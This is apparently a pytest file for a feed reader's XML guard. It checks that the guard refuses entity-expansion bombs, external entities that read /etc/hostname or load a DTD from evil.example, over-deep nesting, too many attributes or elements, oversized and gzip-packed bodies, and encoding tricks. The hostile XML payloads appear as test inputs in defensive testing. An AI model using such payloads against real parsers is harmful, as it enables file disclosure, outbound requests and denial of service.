"""XML that could cost more than it is long is refused before a parser sees it."""

import gzip

import pytest

from reportedly.acquire.feeds.guarded import guarded, text_of
from reportedly.acquire.feeds.limits import MAX_ATTRIBUTES, MAX_BRACKETS, MAX_DEPTH, MAX_FEED_BYTES
from reportedly.errors import UnreadableFeed
from tests.acquire.feeds.making import feed, rss

ITEM = "<title>One</title><link>https://morning.example/1</link>"
LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    + rss("<title>&b;</title>").partition("?>")[2]
)
OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/hostname">]>' + rss("<title>&a;</title>")


@pytest.mark.parametrize(
    "body",
    [
        LAUGHS,
        OUTSIDE,
        '<?xml version="1.0"?>' + LAUGHS,
        LAUGHS.replace("<!ENTITY", "<!entity").replace("<!DOCTYPE", "<!doctype"),
        LAUGHS.encode("utf-16"),
        LAUGHS.encode("utf-32"),
        '<!DOCTYPE rss [<!-- <a> --> <!ENTITY % p SYSTEM "http://evil.example/x">%p;]>' + rss(ITEM),
        rss(ITEM) + '<!DOCTYPE x [<!ENTITY a "b">]>',
        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">' + rss(ITEM),
        LAUGHS.replace("<rss", "<urlset").replace("</rss>", "</urlset>"),
    ],
)
def test_declared_entities_are_refused_however_they_are_written(body):
    with pytest.raises(UnreadableFeed, match="declares entities"):
        feed(body)


def test_a_doctype_that_declares_nothing_is_harmless_and_dropped():
    assert guarded('<!DOCTYPE rss PUBLIC "-//X//EN" "http://x.example/x.dtd"><rss/>', 9) == "<rss/>"


def test_entities_of_html_that_nobody_declared_do_not_cost_the_feed():
    (item,) = feed(
        rss("<title>Kim&nbsp;&eacute;</title><link>https://morning.example/1</link>")
    ).items
    assert item.title == "Kim é"


def test_too_deep_a_nest_is_refused():
    deep = "<a>" * (MAX_DEPTH + 1) + "</a>" * (MAX_DEPTH + 1)
    with pytest.raises(UnreadableFeed, match="deep"):
        feed(rss(ITEM, deep))


@pytest.mark.parametrize("first", ["", "z='>' ", 'z=">" '])
def test_too_many_attributes_are_refused(first):
    many = " ".join(f"a{n}='b'" for n in range(MAX_ATTRIBUTES + 1))
    with pytest.raises(UnreadableFeed, match="attributes"):
        feed(rss(ITEM, f"<a {first}{many}/>"))


def test_html_in_a_feed_that_is_not_well_formed_is_no_nest():
    assert feed(rss(ITEM, "<description>" + "words<br><p>" * 200 + "</description>")).items


def test_too_many_elements_are_refused():
    with pytest.raises(UnreadableFeed, match="elements"):
        feed(rss("<a/>" * (MAX_BRACKETS + 1)))


def test_too_many_bytes_are_refused_packed_or_not():
    for body in (b" " * (MAX_FEED_BYTES + 1), gzip.compress(b"<" * (5 * MAX_FEED_BYTES))):
        with pytest.raises(UnreadableFeed, match="larger than 5 MB"):
            feed(body)


def test_a_packed_feed_is_unpacked():
    assert feed(gzip.compress(rss(ITEM).encode())).items


@pytest.mark.parametrize(
    ("body", "charset", "told"),
    [
        ("리용호".encode(), None, "리용호"),
        ("리용호".encode(), "euc-kr", "리용호"),
        ('<?xml version="1.0" encoding="euc-kr"?>리용호'.encode("euc-kr"), None, "리용호"),
        ("리용호".encode("euc-kr"), "EUC-KR", "리용호"),
        ("리용호".encode("utf-16"), "utf-8", "리용호"),
        (b"caf\xe9", "iso-8859-1", "café"),
        (b"caf\xe9", "no-such-charset", "caf\ufffd"),
        (b"caf\xe9", "idna", "caf\ufffd"),
        (b"caf\xe9", "hex", "caf\ufffd"),
        (b"+ADwAIQ-\xe9", "utf-7", "+ADwAIQ-\ufffd"),
    ],
)
def test_the_charset_is_found(body, charset, told):
    assert told in text_of(body, charset)
